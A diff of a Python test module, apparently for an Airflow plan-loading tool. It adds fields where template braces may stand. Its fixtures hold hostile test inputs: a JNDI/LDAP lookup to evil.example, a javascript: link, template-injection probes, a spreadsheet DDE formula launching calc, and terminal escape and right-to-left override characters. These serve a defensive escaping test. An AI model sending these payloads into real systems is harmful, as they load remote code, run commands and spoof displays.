@@ -31,7 +31,9 @@ MARKUP = (
     "[go](javascript:document.title='evil') ![x](http://evil.example/x.png) <http://evil.example|pay here> *b* | c | "
     "${jndi:ldap://evil.example/x} ${7*7} %s %(x)s =cmd|' /C calc'!A0"
 )
-"""What a plan's author may write: plans take no control characters, and templates only in steps."""
+"""What a plan's author may write: plans take no control characters, and are filled in only in steps."""
+KEPT = ("TITLE", "DESCRIPTION", "OWNER", "GROUP", "PAUSE")
+"""Texts of a plan that nothing fills in, so that braces may stand in them."""
 FOREIGN = "x{{ 7*7 }}x {% raw %}{# no #} " + MARKUP + " \x1b[31mred\x1b]0;evil\x07 \u202egnp\u202c"
 """What servers, functions, endpoints and tags may say."""
 HOSTNAME = (
@@ -118,7 +120,8 @@ def left(start_drs_simulator, airflow_db, tmp_path_factory, request):
         filled = text.replace("URL", endpoint.url)
         longest = {"TAG": 80, "OWNER": 150, "TITLE": 190}
         for place in ("GROUP", "TITLE", "DESCRIPTION", "OWNER", "TAG", "PAUSE", "MESSAGE", "DAGID"):
-            said = json.dumps(f"{place} {MARKUP}"[: longest.get(place, 1000)])[1:-1]
+            braces = "x{{ 7*7 }}x {% raw %}{# no #} " if place in KEPT else ""
+            said = json.dumps(f"{place} {braces}{MARKUP}"[: longest.get(place, 1000)])[1:-1]
             filled = re.sub(rf"\b{place}\b", lambda _, said=said: said, filled, count=1)
         (folder / "plans").mkdir()
         (folder / "plans" / "shop.yaml").write_text(filled)
@@ -289,6 +292,12 @@ class Shown:
 
     def newest(self, dag_ids):
         return {}
+
+    def paused(self, dag_ids):
+        return frozenset()
+
+    def stopped_parts(self, now):
+        return ()
 
 
 @pytest.fixture(scope="module")
